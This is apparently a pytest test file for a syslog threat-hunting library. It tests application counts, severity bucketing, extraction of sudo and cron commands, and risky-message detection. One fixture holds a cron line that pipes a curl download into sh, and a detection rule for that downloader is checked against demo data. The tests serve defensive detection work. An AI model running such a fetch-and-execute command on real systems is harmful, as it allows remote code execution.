"""Applications from syslog: daemon list, counts, severity volume, risky messages (demo and real export)."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.applications import (
    DEFAULT_SYSTEM_DAEMONS,
    app_messages,
    app_volume,
    applications,
    bucket_seconds,
    fill_buckets,
    is_high,
    is_system_daemon,
    message_command,
    message_risks,
    parse_daemon_list,
    severity_volume,
)
from hunting.schema import SYSLOG, conform
from hunting.sources.local import LocalSource
from hunting.timerange import TimeRange

T0 = pd.Timestamp("2024-05-01 10:00:00", tz="UTC")


def syslog_rows(rows: list[tuple[int, str, str, int | None, str]]) -> pd.DataFrame:
    """(seconds, process, severity, pid, message) -> Syslog frame."""
    return conform(
        pd.DataFrame(
            [
                {"TimeGenerated": T0 + pd.Timedelta(seconds=s), "Computer": "h1", "ProcessName": p,
                 "SeverityLevel": sev, "ProcessID": pid, "SyslogMessage": msg}
                for s, p, sev, pid, msg in rows
            ]
        ),
        SYSLOG,
    )  # fmt: skip


@pytest.fixture(scope="module")
def demo() -> tuple[LocalSource, TimeRange, dict]:
    from hunting.demo.scenario import demo_log_paths, demo_manifest

    m = demo_manifest()
    tr = TimeRange(pd.Timestamp(m.start), pd.Timestamp(m.end) + pd.Timedelta(hours=1))
    return LocalSource.from_paths(demo_log_paths()), tr, dict(m.truth)


def test_parse_daemon_list_lines_commas_comments() -> None:
    text = "systemd-*, kernel\n# a comment line\n\ncron  # trailing comment\nkernel\n"
    assert parse_daemon_list(text) == ("systemd-*", "kernel", "cron")
    assert parse_daemon_list("") == ()


def test_is_system_daemon_patterns_case_insensitive() -> None:
    names = pd.Series(["CRON", "systemd-logind", "systemd", "nginx", None, "Kernel"], dtype="string")
    assert is_system_daemon(names, ("cron", "systemd-*", "kernel")).tolist() == [
        True, True, False, False, False, True,
    ]  # fmt: skip
    assert is_system_daemon(names).tolist()[:4] == [True, True, True, False]
    assert "sshd" in DEFAULT_SYSTEM_DAEMONS


def test_applications_counts_and_order() -> None:
    df = syslog_rows(
        [
            (0, "nginx", "err", 10, "a"), (5, "nginx", "info", 11, "b"), (9, "nginx", "warning", 11, "c"),
            (1, "backup.sh", "crit", None, "d"), (2, "systemd", "err", 1, "e"), (3, " ", "info", 4, "f"),
        ]
    )  # fmt: skip
    apps = applications(df)
    assert apps["Application"].tolist() == ["nginx", "backup.sh"]
    assert apps["Messages"].tolist() == [3, 1]
    assert apps["HighSeverity"].tolist() == [2, 1]
    assert apps["Pids"].tolist() == [2, 0]
    assert apps.loc[0, "FirstSeen"] == T0 and apps.loc[0, "LastSeen"] == T0 + pd.Timedelta(seconds=9)
    assert applications(df, daemons=("nginx", "backup*", "systemd"))["Application"].tolist() == []
    assert applications(df.iloc[0:0]).empty


def test_is_high_spellings() -> None:
    levels = pd.Series(["emerg", "ALERT", "crit", "err", "warning", "warn", "error", "notice", "info", None])
    assert is_high(levels).tolist() == [True] * 7 + [False] * 3


def test_severity_volume_buckets_and_levels() -> None:
    df = syslog_rows(
        [
            (0, "a", "err", 1, "x"),
            (30, "a", "error", 1, "x"),
            (61, "a", "warning", 1, "x"),
            (62, "a", "info", 1, "x"),
        ]
    )
    vol = severity_volume(df, 60)
    assert vol.to_dict("list") == {
        "TimeGenerated": [T0, T0 + pd.Timedelta(seconds=60)],
        "Key": ["err", "warning"],
        "Count": [2, 1],
    }
    assert severity_volume(df[df["SeverityLevel"] == "info"], 60).empty


def test_bucket_seconds() -> None:
    assert bucket_seconds(T0, T0 + pd.Timedelta(hours=3)) == 60
    assert bucket_seconds(T0, T0 + pd.Timedelta(days=7)) == 3600
    assert bucket_seconds(T0, T0 + pd.Timedelta(days=400)) == 86400


def test_message_command_sudo_and_cron() -> None:
    msgs = pd.Series(
        [
            "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt list --upgradable",
            "(root) CMD (curl -fsSL http://x/u.sh | sh)",
            "session opened for user root",
        ]
    )
    assert message_command(msgs).tolist() == [
        "/usr/bin/apt list --upgradable", "curl -fsSL http://x/u.sh | sh", pd.NA,
    ]  # fmt: skip


def test_app_volume_selects_key() -> None:
    vol = pd.DataFrame({"TimeGenerated": [T0, T0], "Key": ["sudo", "cron"], "Count": [3, 4]})
    assert app_volume(vol, "cron")["Count"].tolist() == [4]


def test_applications_demo_web01(demo: tuple[LocalSource, TimeRange, dict]) -> None:
    """Counts checked with grep on the demo's auth.log*/syslog (` useradd[`, `<27>`/`<28>` php-fpm8.1 lines)."""
    src, tr, _ = demo
    apps = applications(src.syslog("web01", tr)).set_index("Application")
    assert set(apps.index) == {"php-fpm8.1", "sudo", "crontab", "groupadd", "usermod", "chpasswd", "useradd"}
    assert apps.loc["php-fpm8.1", "Messages"] == 867  # 211 err + 656 warning
    assert apps.loc["php-fpm8.1", "HighSeverity"] == 867
    assert apps.loc["sudo", "Messages"] == 45
    assert apps.loc["groupadd", "Messages"] == 3
    assert apps.loc["usermod", "Messages"] == 2
    assert apps.loc["useradd", "Messages"] == 1
    assert apps.index[0] == "php-fpm8.1"


def test_message_risks_demo_cron_downloader(demo: tuple[LocalSource, TimeRange, dict]) -> None:
    src, tr, truth = demo
    risks = message_risks(app_messages(src.syslog("web01", tr), "CRON"))
    download = risks[risks["RuleId"] == "lnx.download_pipe_shell"]
    assert len(download) == truth["malicious_cron_runs"] == 86  # grep -c "CMD (curl -fsSL" syslog
    assert set(download["Command"]) == {truth["cron_command"]}
    assert download["TimeGenerated"].is_monotonic_increasing


def test_message_risks_benign_and_empty(demo: tuple[LocalSource, TimeRange, dict]) -> None:
    src, tr, _ = demo
    assert message_risks(app_messages(src.syslog("web01", tr), "php-fpm8.1")).empty
    assert message_risks(app_messages(src.syslog("web01", tr), "no-such-app")).empty


def test_applications_msticpy_syslog_export(shared_data: Path) -> None:
    path = shared_data / "msticpy" / "syslog_data.csv"
    with path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    names = Counter(r["ProcessName"] for r in rows)
    high = sum(1 for r in rows if r["SeverityLevel"] in ("emerg", "alert", "crit", "err", "warning"))
    src = LocalSource.from_paths([path])
    host = rows[0]["Computer"]
    tr = TimeRange(pd.Timestamp("2019-01-01", tz="UTC"), pd.Timestamp("2019-12-31", tz="UTC"))
    apps = applications(src.syslog(host, tr))
    assert dict(zip(apps["Application"], apps["Messages"], strict=True)) == dict(names) == {"sudo": 100}
    assert apps["HighSeverity"].tolist() == [high] == [0]
    cmds = message_command(app_messages(src.syslog(host, tr), "sudo")["SyslogMessage"]).dropna()
    # The export's older sudo format: no ';' separators, COMMAND= still last.
    assert cmds.str.startswith("/").all() and len(cmds) == sum("COMMAND=" in r["SyslogMessage"] for r in rows)


def test_fill_buckets_zero_rows_per_key() -> None:
    vol = pd.DataFrame(
        {"TimeGenerated": [T0, T0 + pd.Timedelta(minutes=3)], "Key": ["err", "warning"], "Count": [2, 1]}
    )
    out = fill_buckets(vol, T0, T0 + pd.Timedelta(minutes=3), 60)
    assert len(out) == 8  # 4 minutes x 2 keys
    assert out["Count"].sum() == 3
    got = out.set_index(["TimeGenerated", "Key"])["Count"]
    assert got[(T0, "err")] == 2 and got[(T0 + pd.Timedelta(minutes=1), "err")] == 0
    assert fill_buckets(vol.iloc[0:0], T0, T0, 60).empty
